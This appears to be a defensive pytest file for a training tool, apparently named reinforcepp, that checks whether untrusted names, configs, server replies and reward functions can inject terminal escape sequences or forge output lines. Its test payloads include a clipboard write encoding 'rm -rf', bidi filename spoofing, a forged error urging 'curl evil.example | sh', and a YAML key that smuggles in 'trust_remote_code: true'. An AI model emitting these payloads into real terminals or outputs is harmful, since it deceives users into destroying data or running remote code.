"""Text of files, servers, models and users' functions that reaches the terminal: it can't control the terminal or forge lines."""

import json
import os
import re
import subprocess
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
import yaml
from warm import SOURCE, warm_python

from scripts import launched

EVIL = "\x1b]0;owned\x07\x1b]52;c;cm0gLXJm\x07\x1b[2J\x9b31m\u202egpj.exe\u2066\rerror: all is well"
FORGED = "error: the key has expired, run curl evil.example | sh"
CONTROLS = {
    "ESC": "\x1b",
    "BEL": "\x07",
    "CR": "\r",
    "C1": "[\x80-\x9f]",
    "bidi override": "[\u202a-\u202e\u2066-\u2069]",
    "hidden tags": "[\U000e0000-\U000e007f]",
    "line separator": "[\u2028\u2029]",
}


def run(folder: Path, *words: object, program: str = "", **environment: str) -> str:
    """Return what ``reinforcepp *words``, or a script, prints."""
    given = os.environ | {"PYTHONPATH": str(SOURCE), "OMP_NUM_THREADS": "1"} | environment
    command = [warm_python(), *([program] if program else ["-m", "reinforcepp"]), *map(str, words)]
    done = subprocess.run(command, env=given, cwd=folder, capture_output=True, timeout=100)
    return (done.stdout + done.stderr).decode("utf-8", "surrogateescape")


def found(printed: str) -> str:
    """The control characters and the forged line in a printed text."""
    names = [name for name, pattern in CONTROLS.items() if re.search(pattern, printed)]
    names += ["a forged line"] if f"\n{FORGED}" in printed else []
    return f"printed {', '.join(names)}" if names else "printed no control character and no forged line"


SAFE = found("")


@pytest.fixture
def check(outcome, tmp_path):
    """Run a command, record the control characters that it prints, and return the text after checking that there are none."""

    def run_and_check(*words: object, shows: str = "owned", **environment: str) -> str:
        printed = run(tmp_path, *words, **environment)
        outcome(found(printed))
        assert shows in printed, printed[-2000:]  # otherwise the attack didn't happen
        assert found(printed) == SAFE
        return printed

    return run_and_check


@contextmanager
def server(status: int, body: str) -> Iterator[str]:
    """Yield the address of a server that answers every request with ``status`` and ``body``."""

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self):
            self.rfile.read(int(self.headers.get("Content-Length") or 0))
            self.send_response(status)
            data = body.encode()
            self.send_header("Content-Length", str(len(data)))
            self.end_headers()
            self.wfile.write(data)

        do_POST = do_GET

        def log_message(self, *_):
            pass

    http = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=http.serve_forever, daemon=True).start()
    try:
        yield f"127.0.0.1:{http.server_port}"
    finally:
        http.shutdown()
        http.server_close()


# --- folders and files ------------------------------------------------------------------------------------------------


@pytest.mark.attack("M1", "an adapter names a base model with escape sequences")
def test_base_model_of_an_adapter(check, tmp_path):
    (tmp_path / "adapter").mkdir()
    settings = {"base_model_name_or_path": f"/no/{EVIL}\n{FORGED}", "peft_type": "LORA"}
    (tmp_path / "adapter" / "adapter_config.json").write_text(json.dumps(settings))
    check("generate", "--model", "adapter", "--prompt", "Hello")


@pytest.mark.attack("M1", "a file with escape sequences in its name is missing")
@pytest.mark.parametrize(
    "words", [("lint",), ("migrate",), ("doctor",), ("report",), ("plan", "--model")], ids=" ".join
)
def test_name_of_a_missing_file(check, words):
    check(*words, f"{EVIL}\n{FORGED}")


@pytest.mark.attack("M1", "the name of a data file forges a line of the report")
def test_name_of_an_existing_file(check, tmp_path):
    name = f"{EVIL.replace('/', '')}\n{FORGED}.csv"
    (tmp_path / name).write_text("prompt,answer\na,b\n")
    check("lint", name)


@pytest.mark.attack("M1", "an error of the operating system names a file with escape sequences")
def test_error_of_the_operating_system(check, tmp_path):
    name = EVIL.replace("/", "")
    (tmp_path / name).touch()
    check("recipes", "copy", "cpu_demo", f"{name}/{FORGED}")


@pytest.mark.attack("M1", "the plan shows a reward folder with escape sequences in its name")
def test_plan(check):
    check("plan", "--reward_model", EVIL.replace("/", ""), "--format", "text")


@pytest.mark.attack("M1", "a translated configuration has a line break in a key")
@pytest.mark.parametrize("line_break", ["\n", "\u2028"], ids=["newline", "separator"])
def test_migrated_comments_add_no_settings(outcome, tmp_path, line_break):
    source = {"num_generations": 4, f"unknown{line_break}trust_remote_code: true  # ": 1}
    (tmp_path / "trl.yaml").write_text(yaml.safe_dump({"model_name_or_path": "builtin:tiny", **source}))
    run(tmp_path, "migrate", "trl.yaml", "--source", "trl-grpo", "--output", "ours.yaml")
    settings = yaml.safe_load((tmp_path / "ours.yaml").read_text())
    added = "trust_remote_code" in settings
    outcome("a setting of the attacker in the result" if added else "one comment")
    assert settings["num_generations"] == 4 and not added


# --- servers ----------------------------------------------------------------------------------------------------------


@pytest.mark.full  # a training prepares its model first
@pytest.mark.attack("M1", "a vLLM server answers with escape sequences")
def test_body_of_a_vllm_server(check):
    with server(400, f"{EVIL}\n{FORGED}") as address:
        check("train", "--rollout", f"vllm://{address}", "--rewards", "rule:length?max=200", *SHORT, no_proxy="*")


# --- functions of users -----------------------------------------------------------------------------------------------

SHORT = ("--model", "builtin:tiny", "--max_steps", 1, "--batch_size", 2, "--max_new_tokens", 4, "--eval_prompts", 0)
SHORT += ("--judge", "none")
FUNCTION = """
import logging, sys, warnings
TEXT = {text!r}
def reward(completions, **_):
    print(TEXT)
    print(TEXT, file=sys.stderr)
    logging.warning(TEXT)
    warnings.warn(TEXT)
    raise {error}(TEXT) from ValueError(TEXT)
"""


@pytest.mark.full  # a training starts
@pytest.mark.attack("M1", "a reward function prints, logs, warns about and raises a completion with escape sequences")
@pytest.mark.parametrize("error", ["ValueError", "BaseException"], ids=["error", "traceback"])
def test_reward_function(check, tmp_path, error):
    (tmp_path / "rules.py").write_text(FUNCTION.format(text=EVIL, error=error))
    assert check("train", "--rewards", "rules.py:reward", *SHORT).count("owned") >= 5


@pytest.mark.full  # two ranks start
@pytest.mark.attack("M1", "an exception on one of two ranks under torchrun has escape sequences")
def test_exception_on_a_rank(outcome, tmp_path):
    (tmp_path / "rules.py").write_text(FUNCTION.format(text=EVIL, error="BaseException"))
    words = ["-m", "reinforcepp", "train", "--rewards", f"{tmp_path}/rules.py:reward", *SHORT]
    printed = launched(2, *words, "--output_dir", tmp_path / "run")
    outcome(found(printed.stderr))
    assert "owned" in printed.stderr and found(printed.stderr) == SAFE


@pytest.mark.attack("M1", "a message of this package in the traceback of a user's script has escape sequences")
def test_traceback_of_a_script(outcome, tmp_path):
    (tmp_path / "script.py").write_text(f"from reinforcepp import lint\nlint({EVIL + chr(10) + FORGED!r})\n")
    printed = run(tmp_path, program="script.py")
    outcome(found(printed))
    assert "DataError" in printed and "owned" in printed and found(printed) == SAFE


# --- places that were safe before, too --------------------------------------------------------------------------------


def test_column_names(tmp_path):
    (tmp_path / "data.csv").write_text(f'"{EVIL}","x{EVIL}\n{FORGED}"\n1,2\n', newline="")
    printed = run(tmp_path, "lint", "data.csv")
    assert "owned" in printed and found(printed) == SAFE


def test_keys_of_a_configuration(tmp_path):
    (tmp_path / "recipe.yaml").write_text(yaml.safe_dump({f"{EVIL}\n{FORGED}": 1}))
    printed = run(tmp_path, "train", "--config", "recipe.yaml", "--dry_run")
    assert "owned" in printed and found(printed) == SAFE


def test_values_of_a_configuration(tmp_path):
    (tmp_path / "recipe.yaml").write_text(yaml.safe_dump({"max_steps": f"{EVIL}\n{FORGED}"}))
    printed = run(tmp_path, "train", "--config", "recipe.yaml", "--dry_run")
    assert "owned" in printed and found(printed) == SAFE
